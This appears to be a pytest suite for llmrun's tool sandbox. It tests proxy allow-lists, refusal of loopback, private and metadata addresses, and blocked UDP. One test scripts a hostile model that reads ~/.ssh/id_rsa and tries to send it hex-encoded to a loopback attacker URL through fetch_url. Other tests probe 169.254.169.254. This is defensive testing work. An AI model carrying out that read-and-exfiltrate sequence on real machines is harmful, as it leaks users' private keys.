"""The network rows of the sandbox: none by default, `network: true` direct, `public` and
host lists only through llmrun's proxy, which refuses loopback, private and metadata
addresses unless an entry names the address literally. Every listener is one the test
opened on 127.0.0.1."""

import json
import os
import shutil

import pytest
from sandbox_helpers import KEY, ROOT, Listener, World
from server import Reply, sse
from streams import answer_step, call_args, call_header, chunk, usage

FETCH = ("import sys, urllib.request; "
         "print(urllib.request.urlopen(sys.argv[1], timeout=10).read().decode())")
DIRECT = ("import socket, sys; s = socket.create_connection(('127.0.0.1', int(sys.argv[1])), "
          "timeout=5); s.sendall(b'direct'); print('connected')")


@pytest.fixture
def world(tmp_path):
    return World(tmp_path)


@pytest.fixture
def listener():
    got = Listener()
    yield got
    got.close()


def net_tool(world, network):
    world.write_tools(f"""
  - name: fetch
    description: fetches a URL with urllib (which follows the proxy variables)
    parameters: {{type: object, properties: {{url: {{type: string}}}}}}
    command: [python3, -c, {json.dumps(FETCH)}, "{{url}}"]
    sandbox: {{network: {json.dumps(network)}}}
  - name: direct
    description: connects straight to a port, ignoring any proxy
    parameters: {{type: object, properties: {{port: {{type: string}}}}}}
    command: [python3, -c, {json.dumps(DIRECT)}, "{{port}}"]
    sandbox: {{network: {json.dumps(network)}}}
""")


def test_network_true_reaches_a_loopback_listener_directly(world, listener):
    net_tool(world, True)
    done = world.run_tool("direct", {"port": str(listener.port)})
    assert done.returncode == 0 and "connected" in done.stdout, done.stdout
    assert b"direct" in b"".join(listener.received())


def test_an_allow_listed_host_port_works_through_the_proxy_and_nothing_else(world, listener):
    net_tool(world, [f"127.0.0.1:{listener.port}"])
    done = world.run_tool("fetch", {"url": f"http://127.0.0.1:{listener.port}/hello"})
    assert done.returncode == 0 and "ok" in done.stdout, done.stdout
    other = Listener()
    try:  # another port of the same host, and any direct connection: refused or unreachable
        refused = world.run_tool("fetch", {"url": f"http://127.0.0.1:{other.port}/x"})
        assert refused.returncode == 7 and "403" in refused.stdout
        assert f"the proxy refused 127.0.0.1:{other.port}" in refused.stdout  # named
        direct = world.run_tool("direct", {"port": str(listener.port)})
        assert direct.returncode == 7 and "connected" not in direct.stdout
        assert other.received() == []
    finally:
        other.close()
    got = listener.received()
    assert len(got) == 1 and got[0].startswith(b"GET /hello HTTP/1.1")  # only the allowed one
    left = [p.name for p in world.tmp.iterdir() if p.name.startswith("llmrun-")]
    assert left == [], left  # each run's proxy, its socket folder, the calls' TMPDIRs: gone


def test_public_cannot_reach_loopback_private_or_metadata_addresses(world, listener):
    net_tool(world, "public")
    for url in (f"http://127.0.0.1:{listener.port}/", f"http://localhost:{listener.port}/",
                f"http://[::ffff:127.0.0.1]:{listener.port}/", "http://169.254.169.254/latest",
                "http://10.0.0.1/", "http://0.0.0.0:%d/" % listener.port):
        done = world.run_tool("fetch", {"url": url})
        assert done.returncode == 7 and "403" in done.stdout, (url, done.stdout)
        assert "the proxy refused" in done.stdout
    direct = world.run_tool("direct", {"port": str(listener.port)})
    assert direct.returncode == 7 and "connected" not in direct.stdout
    assert listener.received() == []


def test_udp_and_dns_stay_closed_behind_a_host_list(world, listener):
    world.write_tools(f"""
  - name: udp
    description: sends a datagram
    command: [python3, -c, "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {listener.udp_port}))"]
    sandbox: {{network: [example.com]}}
""")
    done = world.run_tool("udp", {})
    assert done.returncode == 7 and "Operation not permitted" in done.stdout
    assert listener.received() == []


def tool_step(*calls):
    chunks = []
    for i, (name, args) in enumerate(calls):
        chunks += [call_header(i, f"call_{i}", name), call_args(i, args)]
    return chunks + [chunk(finish="tool_calls"), chunk(usage=usage(), choices=False)]


def test_read_file_and_fetch_url_cannot_exfiltrate_the_ssh_key_from_home(world, server):
    """Finding 1: with the working directory at ~ (as under cron), the model reads
    ~/.ssh/id_rsa with the shipped read_file and sends what it got to a loopback "attacker"
    with the shipped fetch_url -- which the config points at the attacker by naming it
    literally, so the fetch itself goes through. The key never reaches the attacker."""
    attacker = Listener()
    try:
        tools = world.base / "shipped"
        shutil.copytree(os.path.join(ROOT, "tools"), tools)
        world.config(f"sandbox_tools: {{fetch_url: {{network: ['127.0.0.1:{attacker.port}']}}}}\n")

        def exfiltrate(h):
            """The hostile model: whatever read_file returned goes into the URL."""
            sent = server.requests[-1].json()
            got = sent["messages"][-1]["content"]
            url = f"http://127.0.0.1:{attacker.port}/?d={got.encode().hex()[:1500]}"
            body = sse(*tool_step(("fetch_url", json.dumps({"url": url}))))
            h.send_response(200)
            h.send_header("Content-Type", "text/event-stream")
            h.send_header("Content-Length", str(len(body)))
            h.end_headers()
            h.wfile.write(body)

        server.add(Reply(sse(*tool_step(("read_file", json.dumps({"path": ".ssh/id_rsa"}))))),
                   Reply(action=exfiltrate), Reply(sse(*answer_step("done"))))
        done = world.llmrun("ask", "--json", "--no-stdin", "--base-url", server.url, "-m", "m",
                            "-t", str(tools), "go", env={"LLMRUN_API_KEY": "sk-test"})
        assert done.returncode == 0, done.stderr
        calls = json.loads(done.stdout)["tool_calls"]
        assert calls[0]["is_error"] and "Permission denied" in calls[0]["result"]
        assert not calls[1]["is_error"], calls[1]["result"]  # the fetch itself went through
        got = b"".join(attacker.received())
        assert got.startswith(b"GET /?d=")
        assert KEY.encode().hex().encode() not in got and KEY.encode() not in got
    finally:
        attacker.close()


class UpstreamProxy:
    """The proxy llmrun itself runs behind: it records each CONNECT and tunnels it."""

    def __init__(self):
        import socket
        import threading

        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.seen = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        import socket
        import threading

        from llmrun.sandbox.proxy import _relay  # a CONNECT tunnel is the same both ways

        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            head = b""
            while b"\r\n\r\n" not in head:
                head += conn.recv(4096)
            line = head.split(b"\r\n")[0].decode()
            self.seen.append(line)
            host, port = line.split()[1].rsplit(":", 1)
            target = socket.create_connection((host, int(port)))
            conn.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")

            threading.Thread(target=_relay, args=(target, conn), daemon=True).start()


def test_behind_a_proxy_of_its_own_llmrun_s_proxy_chains_through_it(world, listener):
    upstream = UpstreamProxy()
    try:
        net_tool(world, [f"127.0.0.1:{listener.port}"])
        done = world.run_tool("fetch", {"url": f"http://127.0.0.1:{listener.port}/via"},
                              env={"HTTPS_PROXY": f"http://127.0.0.1:{upstream.port}"})
        assert done.returncode == 0 and "ok" in done.stdout, done.stdout
        assert upstream.seen == [f"CONNECT 127.0.0.1:{listener.port} HTTP/1.1"]
        assert listener.received()[0].startswith(b"GET /via HTTP/1.1")
    finally:
        upstream.sock.close()
